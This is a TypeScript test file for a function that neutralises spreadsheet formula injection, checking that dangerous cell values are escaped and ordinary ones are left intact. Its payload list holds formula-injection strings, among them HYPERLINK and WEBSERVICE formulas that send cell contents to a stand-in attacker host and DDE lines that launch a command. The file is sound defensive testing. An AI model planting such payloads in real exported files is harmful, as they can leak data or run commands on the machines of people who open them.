import fc from 'fast-check';
import { inertText, isDangerous } from '../../src/tables/inert-text';

/** Known payloads: formula starts of Excel and of programs that open its files, and ways to hide them. */
const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"点此")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  '|cmd',
  '\u0000=1+1',
  '\u0001@x',
];

describe('inertText', () => {
  test.each(PAYLOADS)('writes %j as text', (payload) => {
    const { typed, format } = inertText(payload);
    expect(typed.startsWith("'")).toBe(true);
    expect(format).toBe('General');
  });

  test.each(['小星 3.0', '0001.HK', '000001', '2031-05', '3/4', '5%-35%', '(1.2)', 'TRUE', '1e5', 'a=b', '甲-W'])(
    'leaves %j as it is, in a cell formatted as text',
    (ordinary) => {
      expect(inertText(ordinary)).toEqual({ typed: ordinary, format: '@' });
    },
  );

  test('text too long for the text format is marked by the apostrophe instead', () => {
    expect(inertText('长'.repeat(256))).toEqual({ typed: `'${'长'.repeat(256)}`, format: 'General' });
  });

  test('text too long for a cell is cut with an ellipsis', () => {
    const { typed } = inertText('长'.repeat(40_000));
    expect(typed).toHaveLength(1 + 32_767);
    expect(typed.endsWith('…')).toBe(true);
  });

  test('characters an .xlsx file cannot hold are dropped', () => {
    expect(inertText('甲\u0000乙\u001f丙').typed).toBe('甲乙丙');
  });

  test('whatever the text, what is typed never starts like a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const { typed, format } = inertText(text);
        expect(typed === '' || typed.startsWith("'") || (format === '@' && !isDangerous(typed))).toBe(true);
        expect(/^[=+\-@\t\r]/.test(typed)).toBe(false);
      }),
    );
  });
});
